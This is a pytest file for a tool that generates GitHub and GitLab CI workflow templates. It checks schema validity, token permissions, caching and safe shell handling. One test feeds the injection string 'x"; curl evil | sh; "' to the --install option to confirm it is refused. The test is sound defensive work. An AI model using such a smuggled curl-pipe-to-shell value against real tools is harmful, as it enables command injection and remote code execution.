"""Issue 15: CI templates that work on a real runner, validated against the GitHub and GitLab schemas."""
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from porter import __version__
from tests import minirepos
from tests.helpers import porter, porter_json

SCHEMAS = {"github": "vendor.github-workflows", "github-comment": "vendor.github-workflows",
           "gitlab": "vendor.gitlab-ci"}


def checker() -> str:
    exe = Path(sys.executable).parent / "check-jsonschema"
    found = str(exe) if exe.exists() else shutil.which("check-jsonschema")
    if not found:
        pytest.skip("check-jsonschema is not installed (pip install check-jsonschema)")
    return found


def validate(path: Path, kind: str) -> subprocess.CompletedProcess:
    return subprocess.run([checker(), "--builtin-schema", SCHEMAS[kind], str(path)],
                          capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("kind", list(SCHEMAS))
def test_templates_match_the_schemas(tmp_path, kind):
    code, text = porter("ci-template", kind, cwd=tmp_path)
    assert code == 0
    path = tmp_path / f"{kind}.yml"
    path.write_text(text)
    proc = validate(path, kind)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # the validation can fail: the same file without what each schema requires is refused
    doc = yaml.safe_load(text)
    if kind == "gitlab":
        doc["porter"]["cache"][0]["when"] = "sometimes"
    else:
        del doc["jobs"][next(iter(doc["jobs"]))]["runs-on"]
    path.write_text(yaml.safe_dump(doc))
    assert validate(path, kind).returncode != 0


def test_github_check_and_comment_workflows():
    check = yaml.safe_load(porter("ci-template", "github")[1])
    comment = yaml.safe_load(porter("ci-template", "github-comment")[1])
    # yaml reads the key `on` as True
    assert set(check[True]) == {"pull_request", "push"} and check["permissions"] == {"contents": "read"}
    steps = check["jobs"]["porter"]["steps"]
    runs = [s.get("run", "") for s in steps]
    assert f'python -m pip install "xen-porter=={__version__}"' in runs
    assert any("apt-get install" in r and "gcc-aarch64-linux-gnu" in r for r in runs)
    assert "porter fetch --public" in runs and "porter check" in runs and "porter build" in runs
    cached = [s["with"]["path"] for s in steps if s.get("uses", "").startswith("actions/cache")]
    assert any(".porter/upstream.git" in p and ".porter/xen.git" in p for p in cached)
    assert any(s.get("uses", "").startswith("actions/upload-artifact") for s in steps)
    # the comment: a workflow_run of "porter", with a write token, that never checks out code
    assert comment[True] == {"workflow_run": {"workflows": [check["name"]], "types": ["completed"]}}
    assert comment["permissions"]["pull-requests"] == "write"
    csteps = comment["jobs"]["comment"]["steps"]
    assert not any("checkout" in s.get("uses", "") for s in csteps)
    script = csteps[-1]["run"]
    assert "--method PATCH" in script and "<!-- porter-review -->" in script and "HEAD_SHA" in script
    assert "${{" not in script            # event data reaches the shell only through env


def test_gitlab_caches_and_updates_one_note():
    doc = yaml.safe_load(porter("ci-template", "gitlab")[1])["porter"]
    assert doc["cache"][0]["key"]["files"] == ["porter.toml"]
    assert ".porter/xen.git" in doc["cache"][0]["paths"]
    assert "porter fetch --public" in " ".join(doc["before_script"])
    assert any("gcc-aarch64-linux-gnu" in line for line in doc["before_script"])
    assert doc["script"][0].startswith("porter check") and doc["script"][1] == "porter build"
    after = doc["after_script"][0]
    assert "--request PUT" in after and "<!-- porter-review -->" in after and "PORTER_REVIEW_TOKEN" in after


def test_install_spec_is_checked():
    code, out = porter("ci-template", "gitlab", "--install", 'x"; curl evil | sh; "')
    assert code == 2 and "invalid --install" in out
    code, out = porter("ci-template", "github", "--install", "git+https://example.org/porter.git@v1")
    assert code == 0 and 'pip install "git+https://example.org/porter.git@v1"' in out


def test_local_sources_are_refused_and_public_ones_written(tmp_path):
    up, xen = minirepos.build(tmp_path / "src")
    ws = tmp_path / "ws"
    assert porter("init", ws, "--name", "foo", "--upstream", up, "--xen", xen, "--base", "base",
                  "--public-url", "https://example.org/foo.git")[0] == 0
    code, out = porter("ci-template", "github", cwd=ws / "series")
    assert code == 2 and len(out.strip().splitlines()) == 1
    assert "[xen]" in out and str(xen) in out and "public_url" in out
    code, out = porter("fetch", "--public", cwd=ws)
    assert code == 2 and "[xen]" in out and len(out.strip().splitlines()) == 1
    toml = ws / "porter.toml"
    toml.write_text(toml.read_text() + 'public_url = "https://example.org/xen.git"\n')
    code, doc = porter_json("ci-template", "github", "--write", cwd=ws / "series")
    assert code == 0, doc
    for name in (".github/workflows/porter.yml", ".github/workflows/porter-comment.yml"):
        path = ws / name
        assert path.read_text() == doc["files"][name]
        assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~_umask()


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask
